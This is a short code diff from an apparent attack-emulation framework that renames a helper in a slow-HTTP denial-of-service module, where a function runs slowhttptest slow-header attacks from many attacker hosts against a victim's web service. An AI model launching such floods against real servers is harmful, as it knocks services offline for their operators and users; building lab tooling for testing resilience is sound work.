@@ -1,5 +1,5 @@
 """Denial of service by patience: many HTTP connections that never get to the point."""
-from .flood import _together
+from .flood import from_many
 from .job import attack
 
 
@@ -38,5 +38,5 @@ def slow_read(job):
 @attack("ddos", "slowhttptest", wants="web")
 def slow_headers_from_many(job):
     victim = job.victim()
-    _together(job, victim, victim.services["web"], "tcp",
+    from_many(job, victim, victim.services["web"], "tcp",
               lambda attacker: _slow(job, attacker, victim, victim.services["web"], False, ["-H", "-i", "4"], 40))
